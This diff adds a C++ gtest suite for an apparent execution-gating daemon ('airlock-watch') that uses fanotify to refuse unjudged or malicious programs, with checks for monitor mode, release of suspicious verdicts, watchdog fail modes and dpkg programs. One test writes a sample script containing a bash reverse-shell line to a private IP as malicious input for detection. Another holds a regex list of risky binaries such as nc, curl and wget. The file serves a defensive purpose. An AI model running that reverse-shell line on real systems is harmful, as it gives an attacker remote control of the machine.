@@ -1,0 +1,443 @@
+// The execution gate for real (root): fanotify marks on a tmpfs this test mounts, and on the copy of
+// the root mount in the test's own private mount namespace, so nothing outside this process tree is
+// ever gated. Real exec attempts, the real daemon (airlock-watch), its real sandboxed judge.
+//
+// main() unshares the mount namespace before gtest starts any thread; each test starts its own daemon
+// and stops it (a daemon that dies releases whatever waits: proven by SigkillReleasesAWaitingExec).
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <poll.h>
+#include <sched.h>
+#include <signal.h>
+#include <sys/fanotify.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <array>
+#include <chrono>
+#include <condition_variable>
+#include <cstdlib>
+#include <cstring>
+#include <filesystem>
+#include <fstream>
+#include <mutex>
+#include <regex>
+#include <string>
+#include <thread>
+#include <vector>
+
+#include "watch/file_hash.h"
+#include "watch/trust_db.h"
+
+namespace {
+
+namespace fs = std::filesystem;
+using Clock = std::chrono::steady_clock;
+
+std::string g_root;         // the tmpfs, mounted only in this process's mount namespace
+std::string g_skip_reason;  // non-empty: every test skips with it
+
+void WriteFile(const std::string& path, const std::string& text, mode_t mode = 0755) {
+  std::ofstream(path, std::ios::trunc) << text;
+  ::chmod(path.c_str(), mode);
+}
+
+// The daemon, started in the foreground with its log on a pipe read by a thread.
+class Daemon {
+ public:
+  explicit Daemon(std::vector<std::string> args) {
+    int p[2];
+    if (::pipe2(p, O_CLOEXEC) != 0) return;
+    // --watch: never the default /tmp (an inode mark there would see every other process's files).
+    std::vector<std::string> argv = {WATCH_BIN, "watch", "--state-dir", g_root + "-state", "--no-detonate", "--watch", g_root + "/dl"};
+    argv.insert(argv.end(), args.begin(), args.end());
+    pid_ = ::fork();
+    if (pid_ == 0) {
+      ::dup2(p[1], 1);
+      ::dup2(p[1], 2);
+      ::setenv("AIRLOCK_BIN", AIRLOCK_TEST_BIN, 1);
+      std::vector<char*> a;
+      for (auto& s : argv) a.push_back(s.data());
+      a.push_back(nullptr);
+      ::execv(a[0], a.data());
+      ::_exit(127);
+    }
+    ::close(p[1]);
+    reader_ = std::thread([this, fd = p[0]] {
+      char buf[4096];
+      ssize_t n;
+      while ((n = ::read(fd, buf, sizeof buf)) > 0) {
+        std::lock_guard lock(mu_);
+        log_.append(buf, static_cast<size_t>(n));
+        cv_.notify_all();
+      }
+      ::close(fd);
+      std::lock_guard lock(mu_);
+      eof_ = true;
+      cv_.notify_all();
+    });
+  }
+  ~Daemon() {
+    Stop(SIGTERM);
+    if (reader_.joinable()) reader_.join();
+  }
+  void Stop(int sig) {
+    if (pid_ > 0) {
+      ::kill(pid_, sig);
+      if (sig == SIGSTOP) return;
+      ::kill(pid_, SIGCONT);
+      ::waitpid(pid_, nullptr, 0);
+      pid_ = -1;
+    }
+  }
+  pid_t pid() const { return pid_; }
+  // Waits (up to 90 s: a scan sandbox under a loaded CI machine) for a log line matching `re`.
+  bool WaitFor(const std::string& re) {
+    std::regex r(re);
+    std::unique_lock lock(mu_);
+    return cv_.wait_until(lock, Clock::now() + std::chrono::seconds(90), [&] { return std::regex_search(log_, r) || eof_; }) &&
+           std::regex_search(log_, r);
+  }
+  std::string log() {
+    std::lock_guard lock(mu_);
+    return log_;
+  }
+
+ private:
+  pid_t pid_ = -1;
+  std::thread reader_;
+  std::mutex mu_;
+  std::condition_variable cv_;
+  std::string log_;
+  bool eof_ = false;
+};
+
+// execv(argv) in a child: the execve errno (0 when it ran) and the exit status.
+struct ExecResult {
+  int err = 0;
+  int status = -1;
+};
+ExecResult Exec(const std::vector<std::string>& argv) {
+  int p[2];
+  if (::pipe2(p, O_CLOEXEC) != 0) return {errno, -1};
+  pid_t pid = ::fork();
+  if (pid == 0) {
+    int devnull = ::open("/dev/null", O_RDWR);
+    ::dup2(devnull, 0);
+    ::dup2(devnull, 1);
+    ::dup2(devnull, 2);
+    std::vector<char*> a;
+    for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
+    a.push_back(nullptr);
+    ::execv(a[0], a.data());
+    int e = errno;
+    (void)!::write(p[1], &e, sizeof e);
+    ::_exit(127);
+  }
+  ::close(p[1]);
+  ExecResult r;
+  if (::read(p[0], &r.err, sizeof r.err) != sizeof r.err) r.err = 0;
+  ::close(p[0]);
+  int st = 0;
+  ::waitpid(pid, &st, 0);
+  r.status = WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+  return r;
+}
+
+std::string Python() { return fs::exists("/usr/bin/python3") ? "/usr/bin/python3" : ""; }
+const char* kLoader = "/lib64/ld-linux-x86-64.so.2";
+
+class Gate : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    if (!g_skip_reason.empty()) GTEST_SKIP() << g_skip_reason;
+    files_ = g_root + "/" + ::testing::UnitTest::GetInstance()->current_test_info()->name();
+    fs::create_directories(files_ + "/dl");
+    fs::remove_all(g_root + "-state");
+  }
+  std::string files_;
+};
+
+TEST_F(Gate, EnforceRefusesUnjudgedUntilCleanRunsMaliciousNever) {
+  // In a watched directory (downloads), written before the daemon starts: judged only when someone
+  // tries to run them, so the first attempts always meet an unjudged file.
+  const std::string dl = files_ + "/dl";
+  const std::string elf = dl + "/mytrue", script = dl + "/s.sh", py = dl + "/p.py", evil = dl + "/evil.sh";
+  fs::copy_file("/usr/bin/true", elf);
+  ::chmod(elf.c_str(), 0755);
+  WriteFile(script, "#!/bin/sh\nexit 42\n");
+  WriteFile(py, "raise SystemExit(42)\n");
+  WriteFile(evil, "#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
+  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+
+  // Unjudged: every way of running them is refused, at once (the judge works meanwhile).
+  EXPECT_EQ(Exec({elf}).err, EPERM);
+  EXPECT_EQ(Exec({script}).err, EPERM);
+  EXPECT_EQ(Exec({evil}).err, EPERM);
+  EXPECT_NE(Exec({"/bin/sh", script}).status, 42) << "sh reading an unjudged script";
+  EXPECT_NE(Exec({"/bin/bash", "-c", "source " + script}).status, 42) << "source of an unjudged script";
+  EXPECT_NE(Exec({kLoader, elf}).status, 0) << "the loader mapping an unjudged ELF";
+  if (!Python().empty()) {
+    EXPECT_NE(Exec({Python(), py}).status, 42) << "python3 reading an unjudged file";
+  }
+
+  // A shell may still create files there (`>` opens an empty file: no code to refuse).
+  EXPECT_EQ(Exec({"/bin/sh", "-c", "echo notes > " + dl + "/notes.txt"}).status, 0);
+
+  // Judged clean: they run; judged malicious (rules/yara Reverse_Shell_Unix): never.
+  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + elf)) << d.log();
+  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + script)) << d.log();
+  ASSERT_TRUE(d.WaitFor("verdict malicious sha256:[0-9a-f]+ score=[0-9.]+ path=" + evil)) << d.log();
+  EXPECT_EQ(Exec({elf}).status, 0);
+  EXPECT_EQ(Exec({script}).status, 42);
+  EXPECT_EQ(Exec({"/bin/sh", script}).status, 42);
+  EXPECT_EQ(Exec({kLoader, elf}).status, 0);
+  EXPECT_EQ(Exec({evil}).err, EPERM);
+  EXPECT_NE(Exec({"/bin/sh", evil}).status, 0);
+  if (!Python().empty()) {
+    ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + py)) << d.log();
+    EXPECT_EQ(Exec({Python(), py}).status, 42);
+  }
+  // A change is a new version: unjudged again.
+  WriteFile(script, "#!/bin/sh\nexit 43\n");
+  EXPECT_EQ(Exec({script}).err, EPERM);
+}
+
+// The third answer: `airlock open` runs what the gate refuses, inside the analysis sandbox.
+TEST_F(Gate, AirlockOpenRunsARefusedFileInTheSandbox) {
+  const std::string dl = files_ + "/dl", script = dl + "/tool.sh";
+  WriteFile(script, "#!/bin/sh\necho ran-in-sandbox; exit 7\n");
+  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+  EXPECT_EQ(Exec({script}).err, EPERM);
+  ExecResult r = Exec({AIRLOCK_TEST_BIN, "open", "--events", files_ + "/events.jsonl", script});
+  EXPECT_EQ(r.err, 0);
+  EXPECT_EQ(r.status, 7) << "the script's own exit status, from inside the sandbox";
+  EXPECT_TRUE(fs::exists(files_ + "/events.jsonl")) << "run under the behaviour monitor";
+}
+
+// A suspicious verdict (from an earlier run, in the trust database) stays refused until a user
+// releases it with `airlock verdicts release`; the running daemon picks the release up.
+TEST_F(Gate, SuspiciousRunsOnlyAfterRelease) {
+  const std::string dl = files_ + "/dl", elf = dl + "/tool";
+  fs::copy_file("/usr/bin/true", elf);
+  ::chmod(elf.c_str(), 0755);
+  std::string sha;
+  {
+    int fd = ::open(elf.c_str(), O_RDONLY | O_CLOEXEC);
+    auto h = airlock::watch::Sha256OfFd(fd);
+    ::close(fd);
+    ASSERT_TRUE(h);
+    sha = *h;
+    fs::create_directories(g_root + "-state");
+    ::chmod((g_root + "-state").c_str(), 0700);
+    auto db = airlock::watch::TrustDb::Open(g_root + "-state/trust.sqlite");
+    ASSERT_TRUE(db) << db.error().What();
+    ASSERT_TRUE(db->db->Put({0, sha, airlock::watch::Verdict::kSuspicious, 5, "{}", elf, 0, 0}));
+  }
+  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
+  ASSERT_TRUE(d.WaitFor("ready pid=.* verdicts=1")) << d.log();
+  EXPECT_EQ(Exec({elf}).err, EPERM);
+  EXPECT_TRUE(d.WaitFor("deny exec .* reason=suspicious")) << d.log();
+  ExecResult rel = Exec({WATCH_BIN, "verdicts", "--state-dir", g_root + "-state", "release", sha});
+  ASSERT_EQ(rel.status, 0);
+  ExecResult r;
+  for (auto until = Clock::now() + std::chrono::seconds(30); Clock::now() < until;) {
+    r = Exec({elf});
+    if (r.err == 0) break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // the daemon polls the database once a second
+  }
+  EXPECT_EQ(r.err, 0) << d.log();
+  EXPECT_EQ(r.status, 0);
+}
+
+TEST_F(Gate, MonitorModeLogsAndAllows) {
+  const std::string elf = files_ + "/mytrue";
+  fs::copy_file("/usr/bin/true", elf);
+  ::chmod(elf.c_str(), 0755);
+  Daemon d({"--monitor", "--mark-fs", g_root});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+  ExecResult r = Exec({elf});
+  EXPECT_EQ(r.err, 0);
+  EXPECT_EQ(r.status, 0);
+  EXPECT_TRUE(d.WaitFor("would-deny exec pid=[0-9]+ exe=\\S+ path=" + elf)) << d.log();
+  // `airlock watch status` reports it (the status file is rewritten every second).
+  std::string status;
+  for (auto until = Clock::now() + std::chrono::seconds(30); Clock::now() < until;) {
+    const std::string out = g_root + "/status.out";
+    pid_t pid = ::fork();
+    if (pid == 0) {
+      int fd = ::open(out.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
+      ::dup2(fd, 1);
+      ::execl(WATCH_BIN, WATCH_BIN, "watch", "status", "--state-dir", (g_root + "-state").c_str(), "--json", nullptr);
+      ::_exit(127);
+    }
+    ::waitpid(pid, nullptr, 0);
+    std::ifstream in(out);
+    status.assign(std::istreambuf_iterator<char>(in), {});
+    if (std::regex_search(status, std::regex("\"would_deny\": [1-9]"))) break;
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));  // polling a file rewritten once a second
+  }
+  EXPECT_TRUE(std::regex_search(status, std::regex("\"mode\": \"monitor\""))) << status;
+  EXPECT_TRUE(std::regex_search(status, std::regex("\"would_deny\": [1-9]"))) << status;
+}
+
+TEST_F(Gate, FileWrittenFromAnotherMountNamespaceIsJudged) {
+  const std::string dl = files_ + "/dl";
+  Daemon d({"--enforce", "--mark-fs", g_root, "--watch", dl});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+  // A child in a mount namespace of its own writes through its own copy of the mount.
+  pid_t pid = ::fork();
+  if (pid == 0) {
+    if (::unshare(CLONE_NEWNS) != 0) ::_exit(1);
+    std::ifstream in("/usr/bin/true", std::ios::binary);
+    std::ofstream out(dl + "/fetched", std::ios::binary);
+    out << in.rdbuf();
+    out.close();
+    ::chmod((dl + "/fetched").c_str(), 0755);
+    ::_exit(out ? 0 : 2);
+  }
+  int st = 0;
+  ::waitpid(pid, &st, 0);
+  ASSERT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0);
+  // Judged without anyone trying to run it: the write itself was seen.
+  ASSERT_TRUE(d.WaitFor("verdict clean sha256:[0-9a-f]+ score=[0-9.]+ path=" + dl + "/fetched")) << d.log();
+  EXPECT_EQ(Exec({dl + "/fetched"}).status, 0);
+  EXPECT_EQ(d.log().find("deny exec"), std::string::npos) << d.log();
+}
+
+TEST_F(Gate, SigkillOfTheDaemonReleasesAWaitingExec) {
+#if !defined(__x86_64__)
+  GTEST_SKIP() << "waits for syscall 59 (execve on x86-64) in /proc/PID/syscall";
+#endif
+  const std::string elf = files_ + "/mytrue";
+  fs::copy_file("/usr/bin/true", elf);
+  ::chmod(elf.c_str(), 0755);
+  Daemon d({"--enforce", "--mark-fs", g_root});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+  d.Stop(SIGSTOP);  // the daemon cannot answer: the exec below waits in the kernel
+  pid_t child = ::fork();
+  if (child == 0) {
+    ::execl(elf.c_str(), elf.c_str(), nullptr);
+    ::_exit(100 + errno);
+  }
+  // Wait until the child is inside execve (syscall 59 on x86-64, waiting for the answer).
+  bool waiting = false;
+  for (auto until = Clock::now() + std::chrono::seconds(30); !waiting && Clock::now() < until;) {
+    std::ifstream sc("/proc/" + std::to_string(child) + "/syscall");
+    std::string nr;
+    sc >> nr;
+    waiting = nr == "59";
+    if (!waiting) std::this_thread::yield();
+  }
+  ASSERT_TRUE(waiting) << "the exec never blocked on the stopped daemon";
+  d.Stop(SIGKILL);
+  int st = 0;
+  ASSERT_EQ(::waitpid(child, &st, 0), child);
+  EXPECT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0) << "status " << st << ": the kernel lets the exec go when the group dies";
+}
+
+TEST_F(Gate, WatchdogAnswersWithTheFailMode) {
+  // Hashing 256 MiB takes far longer than the 10 ms deadline: the watchdog answers first.
+  const std::string big = files_ + "/big";
+  fs::copy_file("/usr/bin/true", big);
+  {
+    std::ofstream f(big, std::ios::app | std::ios::binary);
+    std::string mib(1 << 20, '\0');
+    for (int i = 0; i < 256; ++i) f << mib;
+  }
+  ::chmod(big.c_str(), 0755);
+  {
+    Daemon d({"--enforce", "--mark-fs", g_root, "--decision-timeout", "10", "--fail-mode", "open"});
+    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+    EXPECT_EQ(Exec({big}).status, 0) << "fail mode open";
+    EXPECT_TRUE(d.WaitFor("watchdog: no decision for .* answered with fail mode open")) << d.log();
+  }
+  WriteFile(big + ".touch", "");  // a new daemon: empty cache
+  {
+    Daemon d({"--enforce", "--mark-fs", g_root, "--decision-timeout", "10", "--fail-mode", "closed"});
+    ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+    EXPECT_EQ(Exec({big}).err, EPERM) << "fail mode closed";
+    EXPECT_TRUE(d.WaitFor("watchdog: no decision for .* answered with fail mode closed")) << d.log();
+  }
+}
+
+// dpkg's programs keep working under enforce: a broad sample of /usr/bin, gated through a mount mark
+// on this namespace's copy of the root mount (the rest of the machine is not gated).
+TEST_F(Gate, DpkgInstalledProgramsAreNotBlocked) {
+  if (!fs::is_directory("/var/lib/dpkg/info")) GTEST_SKIP() << "no dpkg database here";
+  std::vector<std::string> all;
+  for (const auto& e : fs::directory_iterator("/usr/bin")) {
+    static const std::regex kRisky("^(x-|xdg-|sensible-|.*(shutdown|reboot|halt|poweroff|kill|init|login|passwd|su|sudo|top|edit|pager|browser|vi|vim|nano|less|more|watch|yes|sleep|cat|tee|script|screen|tmux|ssh|scp|sftp|telnet|nc|curl|wget|apt|dpkg|pip|x11).*)$");
+    std::string name = e.path().filename().string();
+    if (e.is_regular_file() && ::access(e.path().c_str(), X_OK) == 0 && !std::regex_match(name, kRisky)) all.push_back(e.path().string());
+  }
+  std::sort(all.begin(), all.end());
+  ASSERT_GT(all.size(), 20u);
+  std::vector<std::string> sample;
+  for (size_t i = 0; i < all.size(); i += std::max<size_t>(1, all.size() / 60)) sample.push_back(all[i]);
+  Daemon d({"--enforce", "--mark-mount", "/"});
+  ASSERT_TRUE(d.WaitFor("ready pid=")) << d.log();
+  int refused = 0;
+  for (const auto& p : sample) {
+    pid_t pid = ::fork();
+    if (pid == 0) {
+      ::setsid();
+      alarm(10);  // a program that waits on something anyway is killed; only the exec matters
+      int devnull = ::open("/dev/null", O_RDWR);
+      ::dup2(devnull, 0);
+      ::dup2(devnull, 1);
+      ::dup2(devnull, 2);
+      // dpkg's PATH: a `#!/usr/bin/env python3` script must not find a pyenv shim of the caller's.
+      char path_env[] = "PATH=/usr/sbin:/usr/bin:/sbin:/bin";
+      char* envp[] = {path_env, nullptr};
+      ::execle(p.c_str(), p.c_str(), "--version", nullptr, envp);
+      ::_exit(errno == EPERM ? 126 : 127);
+    }
+    int st = 0;
+    ::waitpid(pid, &st, 0);
+    if (WIFEXITED(st) && WEXITSTATUS(st) == 126) {
+      ++refused;
+      ADD_FAILURE() << p << " was refused";
+    }
+  }
+  EXPECT_EQ(refused, 0);
+  EXPECT_EQ(d.log().find("deny "), std::string::npos) << d.log();
+  std::cerr << "[          ] " << sample.size() << " dpkg programs run with --version under enforce\n";
+}
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  ::testing::InitGoogleTest(&argc, argv);
+  if (::testing::GTEST_FLAG(list_tests)) return RUN_ALL_TESTS();  // test discovery: no mounts
+  if (::geteuid() != 0) {
+    g_skip_reason = "needs root: fanotify permission events need CAP_SYS_ADMIN";
+  } else if (::unshare(CLONE_NEWNS) != 0 || ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0) {
+    g_skip_reason = std::string("cannot make a private mount namespace: ") + std::strerror(errno);
+  } else {
+    std::string t = (fs::temp_directory_path() / "airlock-watch-gate-XXXXXX").string();
+    g_root = ::mkdtemp(t.data());
+    if (::mount("tmpfs", g_root.c_str(), "tmpfs", 0, "size=600m,mode=0755") != 0) {
+      g_skip_reason = std::string("cannot mount a tmpfs: ") + std::strerror(errno);
+    } else {
+      fs::create_directories(g_root + "/dl");
+      int probe = ::fanotify_init(FAN_CLASS_CONTENT | FAN_CLOEXEC, O_RDONLY);
+      if (probe < 0 || ::fanotify_mark(probe, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN_EXEC_PERM, AT_FDCWD, g_root.c_str()) != 0) {
+        g_skip_reason = std::string("fanotify permission events unavailable (CONFIG_FANOTIFY_ACCESS_PERMISSIONS?): ") + std::strerror(errno);
+      }
+      if (probe >= 0) ::close(probe);
+    }
+  }
+  int rc = RUN_ALL_TESTS();
+  if (!g_root.empty()) {
+    ::umount2(g_root.c_str(), MNT_DETACH);
+    std::error_code ec;
+    fs::remove_all(g_root + "-state", ec);
+    ::rmdir(g_root.c_str());
+  }
+  return rc;
+}
